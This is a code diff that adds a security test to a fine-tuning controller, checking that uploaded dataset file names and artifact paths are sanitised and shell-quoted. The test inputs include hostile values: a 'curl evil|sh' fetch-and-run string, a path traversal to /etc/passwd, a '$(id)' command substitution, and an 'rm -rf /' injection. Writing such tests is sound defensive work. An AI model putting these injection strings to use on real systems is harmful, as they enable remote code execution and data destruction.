@@ -279,3 +279,25 @@ def test_family_specs_render_worker_commands(name, preset, method, gpus):
         cmd.split("python -m finetune_controller_amd.train.cli ", 1)[-1].split()
     a = cli.build_parser().parse_args(argv)
     assert a.model == preset and a.method == method and a.zero_stage == 0
+
+
+def test_untrusted_dataset_names_cannot_inject_shell():
+    """A dataset file name is user-controlled (upload name / Content-Disposition): it is sanitised on
+    ingest and every path in the pod's shell command lines is quoted."""
+    import shlex
+
+    from finetune_controller_amd.controlplane.core.naming import safe_filename
+    from finetune_controller_amd.controlplane.k8s.manifest import sync_command, wrap_command
+    from finetune_controller_amd.controlplane.tasks.services import filename_from_response
+
+    assert safe_filename("x;curl evil|sh") == "x_curl_evil_sh"
+    assert safe_filename("../../etc/passwd") == "passwd"
+    assert safe_filename("..") .startswith("dataset-") and safe_filename(None).startswith("dataset-")
+    assert filename_from_response({"Content-Disposition": 'attachment; filename="a b$(id).csv"'}, "http://h/x") \
+        == "a_b__id_.csv"
+    evil = "/data/artifacts; rm -rf /"
+    cmd = sync_command(evil, "s3://b/k", ["*.pt", "x'y"], 60)
+    assert "'/data/artifacts; rm -rf /'" in cmd and shlex.split(cmd)  # parses: nothing unbalanced
+    assert "; rm -rf /;" not in cmd
+    w = wrap_command(["/bin/bash", "-c", "python train.py"], evil)[-1]
+    assert "'/data/artifacts; rm -rf //done.txt'" in w
